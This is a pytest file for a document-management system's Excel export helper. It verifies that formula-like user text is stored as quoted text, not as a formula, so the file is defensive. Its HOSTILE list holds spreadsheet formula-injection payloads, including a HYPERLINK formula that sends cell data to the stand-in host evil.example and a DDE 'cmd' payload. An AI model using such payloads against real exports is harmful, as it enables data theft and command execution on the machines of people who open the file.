"""apps.core.excel (issue 7, point 14): text a user typed never becomes a formula in a
workbook the DMS hands out, in normal and write-only workbooks alike."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from apps.core import excel
from apps.customers import importing

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _line_ends(value):
    return value.replace("\r", "\n") if isinstance(value, str) else value


@pytest.mark.parametrize("write_only", [False, True], ids=["normal", "write-only"])
def test_formula_like_text_is_written_as_text_with_a_quote_prefix(write_only):
    # Given a sheet with text an attacker typed into a customer record, and ordinary values
    workbook = excel.new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("客户")
    excel.append_row(sheet, ["张伟", 42, *HOSTILE])

    # When it is saved
    content = excel.to_buffer(workbook).getvalue()

    # Then the sheet XML holds no formula at all, and each text reads back as itself
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    cells = next(load_workbook(io.BytesIO(content))["客户"].iter_rows())
    # An XML reader normalises a carriage return to a line feed (XML 1.0 §2.11; the lxml
    # openpyxl may use keeps it): compare with line ends normalised.
    assert [_line_ends(cell.value) for cell in cells] == [
        _line_ends(value) for value in ["张伟", 42, *HOSTILE]
    ]
    assert [cell.data_type for cell in cells] == ["s", "n"] + ["s"] * len(HOSTILE)
    assert [cell.quotePrefix for cell in cells] == [False, False] + [True] * len(HOSTILE)


def test_import_template_is_written_through_the_helper_without_formulas():
    content = importing.template_workbook().getvalue()

    archive = zipfile.ZipFile(io.BytesIO(content))
    sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets
    for name in sheets:
        xml = archive.read(name).decode()
        assert "<f>" not in xml, name
